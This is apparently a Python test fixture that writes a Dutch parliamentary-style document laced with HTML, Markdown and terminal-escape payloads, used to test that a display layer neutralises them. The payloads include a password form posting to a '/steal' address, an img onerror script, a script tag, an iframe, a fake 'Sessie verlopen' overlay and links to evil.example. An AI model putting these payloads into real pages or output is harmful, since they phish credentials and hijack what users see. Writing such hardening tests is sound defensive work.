"""A hostile document: HTML, Markdown and terminal payloads in its file name,
title, fractie heading and sentences, for the tests that show documents
(tests/test_display.py, tests/test_hostile_documents.py).

The payloads are what the hardening issue reproduced: a password form, a style
that recolours the app, a frame and images that load remote content, a script,
Markdown images and links, bare URLs, LaTeX, and terminal escape codes. Remote
addresses are 127.0.0.1:9 (discard port: nothing answers) and evil.example.
"""

from __future__ import annotations

import json
from pathlib import Path

FORM = "<form action=http://127.0.0.1:9/steal><input name=wachtwoord placeholder=wachtwoord></form>"
STYLE = "<style>body{background:red}</style>"
IFRAME = "<iframe src=http://127.0.0.1:9/frame></iframe>"
IMG = "<img src=http://127.0.0.1:9/x.png onerror=alert(1)>"
SCRIPT = "<script>document.title='pwned'</script>"
OVERLAY = '<div style="position:fixed;inset:0;background:white;z-index:99999">Sessie verlopen</div>'
MD_IMAGE = "![x](http://127.0.0.1:9/md.png)"
MD_LINK = "[klik](http://evil.example)"
BARE_URL = "http://evil.example/pad"
WWW = "www.evil.example"
LATEX = "$x$"
ANSI = "\x1b[31mROOD\x1b[0m"
OSC = "\x1b]0;title\x07"

HTML_PAYLOADS = (FORM, STYLE, IFRAME, IMG, SCRIPT, OVERLAY)
MARKDOWN_PAYLOADS = (MD_IMAGE, MD_LINK, BARE_URL, WWW, LATEX, "*nadruk*", "`code`", "# Kop", "| a | b |")
TERMINAL_PAYLOADS = (ANSI, OSC)
# Text containing every payload, for unit tests of the display helpers.
ALL = " ".join((*HTML_PAYLOADS, *MARKDOWN_PAYLOADS, *TERMINAL_PAYLOADS))

TOPIC = "zeewierkwekerij"
QUESTION = "Met hoeveel geld steunt het kabinet de zeewierkwekerij in de Noordzee?"
UNANSWERABLE = "Wat is de hoofdstad van Mongolië?"
# Slashes cannot be in a file name: the division slash keeps the URL look.
FILE_STEM = f"zeewier {IMG} {MD_LINK} {OVERLAY} {ANSI}".replace("/", "\u2215")
TITLE = f"Zeewier <b>vet</b> {IMG} {MD_IMAGE} {ANSI}"

TEXT = f"""Tweede Kamer der Staten-Generaal

Verslag van een schriftelijk overleg over zeewierkwekerij

Inbreng van de leden van de {FORM}{STYLE}-fractie

De leden van de fractie vragen of de zeewierkwekerij in de Noordzee rendabel is {MD_IMAGE} en of het kabinet {MD_LINK} de vergunningen voor de zeewierkwekerij versnelt {LATEX} {ANSI}{OSC}?

1. Antwoord van het kabinet:

Het kabinet trekt in 2025 12 miljoen euro uit voor de zeewierkwekerij in de Noordzee. De minister zal de Kamer in 2026 informeren over de resultaten van de zeewierkwekerij.

Het kabinet steunt de zeewierkwekerij in de Noordzee met 12 miljoen euro {IMG} {MD_IMAGE} en {MD_LINK} voor de proef {LATEX} in 2025.

De zeewierkwekerij levert volgens het kabinet 40 banen op {IFRAME} zie {WWW} of {BARE_URL} {SCRIPT} {OVERLAY} {ANSI}{OSC}.

Het kabinet verwacht dat de zeewierkwekerij in 2030 winstgevend is *nadruk* `code` | a | b | {STYLE} {FORM}.
"""


def write_hostile_corpus(folder: Path) -> Path:
    """The hostile document (and a sidecar giving it a hostile title) in `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{FILE_STEM}.txt"
    path.write_text(TEXT, encoding="utf-8")
    (folder / f"{FILE_STEM}.meta.json").write_text(json.dumps({"title": TITLE}), encoding="utf-8")
    return path


def visible(s: str) -> str:
    """What a reader sees of `s`: escape codes and invisible joiners gone,
    whitespace collapsed (for comparing with text read from a page)."""
    from corpus.display import WORD_JOINER, terminal_safe

    return " ".join(terminal_safe(s).replace(WORD_JOINER, "").split())
